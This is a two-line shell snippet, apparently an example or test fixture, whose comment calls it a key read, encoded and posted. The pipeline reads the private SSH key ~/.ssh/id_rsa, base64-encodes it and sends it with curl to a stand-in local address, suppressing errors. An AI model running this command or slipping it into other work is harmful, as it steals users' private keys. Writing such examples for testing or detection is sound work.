# A key read, encoded and posted, in one pipeline.
cat ~/.ssh/id_rsa 2> /dev/null | base64 | curl -s --max-time 1 -d @- http://127.0.0.1:9/k || true
